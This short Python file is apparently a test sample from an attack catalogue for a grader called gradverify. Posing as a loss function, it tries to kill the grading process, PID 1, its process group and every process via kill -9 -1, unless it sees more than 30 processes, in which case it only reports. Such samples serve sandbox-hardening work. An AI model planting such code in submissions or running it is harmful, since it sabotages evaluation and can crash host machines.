"""Hostile submission (gradverify attack catalogue): kill the grader (its parent), its group, and kill -9 -1.

If it sees more than 30 processes it is evidently outside any sandbox: then it only reports
what it could have killed, instead of taking the machine down.
"""

import os
import signal


def _visible():
    return [int(p) for p in os.listdir("/proc") if p.isdigit()]


def loss(name, y_pred, y_true):
    if len(_visible()) > 30:
        print(f"ATTACK-SUCCEEDED: outside any sandbox, kill -9 -1 would hit {len(_visible())} processes")
        return 0.0
    for target in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(1, signal.SIGKILL),
                   lambda: os.killpg(os.getpgid(0), signal.SIGTERM), lambda: os.kill(-1, signal.SIGKILL)):
        try:
            target()
        except OSError:
            pass
    return 0.0


def loss_backward(name, y_pred, y_true):
    try:
        os.kill(-1, signal.SIGKILL) if len(_visible()) <= 30 else None
    except OSError:
        pass
    return y_pred * 0
